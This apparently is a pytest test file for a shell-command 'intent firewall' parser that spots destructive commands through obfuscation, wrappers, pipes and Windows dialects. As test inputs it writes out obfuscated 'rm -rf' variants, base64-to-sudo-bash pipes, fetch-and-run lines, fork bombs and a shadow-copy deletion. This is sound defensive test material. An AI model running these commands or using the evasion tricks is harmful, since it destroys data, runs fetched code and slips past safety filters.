import pytest

from components.intent_firewall.shell import MAX_SIZE, parse_shell, parse_words
from components.intent_firewall.shell_model import FORK_BOMB, Command, Redirect, Script


def programs(script: Script) -> list[str]:
    return [command.program for command in script.commands]


def command(script: Script, program: str) -> Command:
    return next(one for one in script.commands if one.program == program)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("rm -rf /tmp/a", ("-rf", "/tmp/a")),
        ("r''m -rf '/tmp/a'", ("-rf", "/tmp/a")),
        ("\\rm -rf /tmp/a", ("-rf", "/tmp/a")),
        ("/bin/rm -rf \"/tmp/a\"", ("-rf", "/tmp/a")),
        ("$'\\x72m' -rf /tmp/a", ("-rf", "/tmp/a")),
        ("X=rm; $X -rf /tmp/a", ("-rf", "/tmp/a")),
        ("X='rm -rf'; $X /tmp/a", ("-rf", "/tmp/a")),
        ("rm${IFS}-rf${IFS}/tmp/a", ("-rf", "/tmp/a")),
        ("IFS=_; X=rm_-rf_/tmp/a; $X", ("-rf", "/tmp/a")),
        ("IFS=,; X=rm; $X -rf /tmp/a,", ("-rf", "/tmp/a,")),
        ("X='rm -rf /tmp/a'; IFS=m $X", ("-rf", "/tmp/a")),
        ("while IFS=/ read -r x; do X=/bin/rm; $X -rf /tmp/a; done", ("-rf", "/tmp/a")),
        ("{rm,-rf,/tmp/a}", ("-rf", "/tmp/a")),
        ("D=/tmp; rm -rf \"$D/a\"", ("-rf", "/tmp/a")),
        ("true && (rm -rf /tmp/a)", ("-rf", "/tmp/a")),
        ("if true; then rm -rf /tmp/a; fi", ("-rf", "/tmp/a")),
        ("for i in 1; do { rm -rf /tmp/a; }; done", ("-rf", "/tmp/a")),
        ("f() { rm -rf /tmp/a; }; f", ("-rf", "/tmp/a")),
        ("echo $(rm -rf /tmp/a)", ("-rf", "/tmp/a")),
        ("echo `rm -rf /tmp/a`", ("-rf", "/tmp/a")),
        ("cat <(rm -rf /tmp/a)", ("-rf", "/tmp/a")),
        ("x=$(rm -rf /tmp/a)", ("-rf", "/tmp/a")),
        ("sudo -u root rm -rf /tmp/a", ("-rf", "/tmp/a")),
        ("env -i A=1 nice -n 5 timeout 9 rm -rf /tmp/a", ("-rf", "/tmp/a")),
        ("bash -c 'rm -rf /tmp/a'", ("-rf", "/tmp/a")),
        ("sh -ec \"bash -c 'rm -rf /tmp/a'\"", ("-rf", "/tmp/a")),
        ("eval 'rm -rf /tmp/a'", ("-rf", "/tmp/a")),
        ("find . -name x -exec rm -rf /tmp/a \\;", ("-rf", "/tmp/a")),
        ("ls | xargs -n 1 rm -rf /tmp/a", ("-rf", "/tmp/a")),
        ("ssh -p 22 host 'rm -rf /tmp/a'", ("-rf", "/tmp/a")),
        ("docker exec -it box rm -rf /tmp/a", ("-rf", "/tmp/a")),
        ("bash <<'E'\nrm -rf /tmp/a\nE", ("-rf", "/tmp/a")),
        ("bash <<< 'rm -rf /tmp/a'", ("-rf", "/tmp/a")),
        ("echo 'rm -rf /tmp/a' | sh", ("-rf", "/tmp/a")),
        ("echo cm0gLXJmIC90bXAvYQ== | base64 -d | sudo bash", ("-rf", "/tmp/a")),
        ("python3 -c 'import os; os.system(\"rm -rf /tmp/a\")'", ("-rf", "/tmp/a")),
        ("python - <<E\nimport subprocess\nsubprocess.run(['rm', '-rf', '/tmp/a'])\nE",
         ("-rf", "/tmp/a")),
        ("perl -e 'system(\"rm -rf /tmp/a\")'", ("-rf", "/tmp/a")),
        ("awk 'BEGIN { system(\"rm -rf /tmp/a\") }'", ("-rf", "/tmp/a")),
        ("osascript -e 'do shell script \"rm -rf /tmp/a\"'", ("-rf", "/tmp/a")),
        ("trap 'rm -rf /tmp/a' EXIT", ("-rf", "/tmp/a")),
        ("if true; then rm -rf /tmp/a", ("-rf", "/tmp/a")),  # broken: no fi
    ],
)  # fmt: skip
def test_the_command_is_found_however_it_is_wrapped(text: str, words: tuple[str, ...]) -> None:
    assert command(parse_shell(text), "rm").words == words


def test_what_is_only_data_is_no_command() -> None:
    script = parse_shell("echo 'rm -rf /' ; grep \"rm -rf\" a.txt <<E\nrm -rf /\nE\n# rm -rf /")
    assert programs(script) == ["echo", "grep"]


def test_redirections_belong_to_their_command() -> None:
    script = parse_shell("{ a; b; } > out.txt 2>/dev/null < in.txt")
    wanted = (Redirect(">", "out.txt"), Redirect(">", "/dev/null"), Redirect("<", "in.txt"))
    assert command(script, "a").redirects == wanted
    assert command(script, "b").redirects == wanted
    assert [one.writes for one in wanted] == [True, True, False]


def test_pipes_and_substitutions_say_where_output_goes() -> None:
    assert command(parse_shell("curl x | tee f | sudo bash"), "curl").into == (
        "tee", "sudo", "bash",
    )  # fmt: skip
    assert command(parse_shell("bash <(curl x)"), "curl").into == ("bash",)
    assert command(parse_shell('sh -c "$(curl x)"'), "curl").into == ("sh",)
    assert command(parse_shell("cat <<E | sh\nhi\nE"), "cat").into == ("sh",)


def test_rights_and_places_are_told() -> None:
    script = parse_shell("ls; sudo sh -c 'id; whoami'")
    assert [(one.program, one.privileged) for one in script.commands] == [
        ("ls", False), ("sudo", False), ("sh", True), ("id", True), ("whoami", True),
    ]  # fmt: skip
    text = "echo ä; rm -r x"
    start, end = command(parse_shell(text), "rm").span
    assert text[start:end] == "rm -r x"


@pytest.mark.parametrize(
    "text",
    [
        "wget http://x.test/a.sh -O /tmp/a.sh && chmod +x /tmp/a.sh && /tmp/a.sh",
        "curl -O http://x.test/a.sh; bash a.sh",
        "curl http://x.test/a > run.py; python3 run.py",
    ],
)
def test_running_what_was_fetched_is_marked(text: str) -> None:
    assert any(one.fetched for one in parse_shell(text).commands)


def test_using_what_was_fetched_is_not() -> None:
    script = parse_shell("curl -o d.csv http://x.test/d.csv; wc -l d.csv; python3 a.py")
    assert not any(one.fetched for one in script.commands)


@pytest.mark.parametrize(
    "text",
    [
        "$CMD -rf /",
        'eval "$x"',
        'bash -c "$x"',
        "base64 -d secret | sh",
        "a" * (MAX_SIZE + 1),
        "sh -c 'eval eval eval eval eval eval eval eval x'",
        "cat <<E\n" * 80,
        "a|" * 5000,
        "$(echo " * 150 + "x" + ")" * 150,
    ],
)
def test_what_cannot_be_read_is_said_to_be_opaque(text: str) -> None:
    assert parse_shell(text).opaque


@pytest.mark.parametrize("text", [":(){ :|:& };:", "b() { b & b & }; b", "x(){ x | x; }; x"])
def test_fork_bombs_are_named(text: str) -> None:
    assert FORK_BOMB in programs(parse_shell(text))


def test_a_function_that_calls_itself_once_is_no_bomb() -> None:
    text = "walk() { for f in $1/*; do walk $f; done; }; walk ."
    assert FORK_BOMB not in programs(parse_shell(text))


def test_an_argument_list_is_a_command() -> None:
    script = parse_words(["sudo", "sh", "-c", "rm -rf /"])
    assert programs(script) == ["sudo", "sh", "rm"]
    assert parse_words([]) == Script()


@pytest.mark.parametrize(
    ("text", "dialect", "program", "words"),
    [
        ("cmd /c del /q a.txt", "cmd", "del", ("/q", "a.txt")),
        ("v^ssadmin delete sha^dows", "cmd", "vssadmin", ("delete", "shadows")),
        ("if exist x (del x)", "cmd", "del", ("x",)),
        ("$a = Get-Date; Remove-Item -Recurse C:\\x", "powershell", "Remove-Item".lower(),
         ("-Recurse", "C:\\x")),
        ("i`ex 'x'", "powershell", "invoke-expression", ("x",)),
        ("powershell -c \"iwr http://x.test | iex\"", "sh", "invoke-webrequest",
         ("http://x.test",)),
        ("& 'C:\\a b\\tool.exe' -x", "powershell", "tool", ("-x",)),
    ],
)  # fmt: skip
def test_windows_command_lines(
    text: str, dialect: str, program: str, words: tuple[str, ...]
) -> None:
    assert command(parse_shell(text, dialect), program).words == words


def test_windows_pipes_and_brackets_say_where_output_goes() -> None:
    script = parse_shell("iex (iwr http://x.test)", "powershell")
    assert command(script, "invoke-webrequest").into == ("invoke-expression",)
    script = parse_shell("iwr http://x.test | iex", "powershell")
    assert command(script, "invoke-webrequest").into == ("invoke-expression",)


@pytest.mark.parametrize("unit", ["a@", "&amp;", "[[ a ]] ", "with a as (", "a|", "<<E\n"])
def test_scripts_that_would_tangle_the_parser_are_split_and_reported(unit: str) -> None:
    script = parse_shell("rm -rf /tmp/a\n" + unit * (40_000 // len(unit)))
    assert script.opaque
    assert command(script, "rm").words == ("-rf", "/tmp/a")
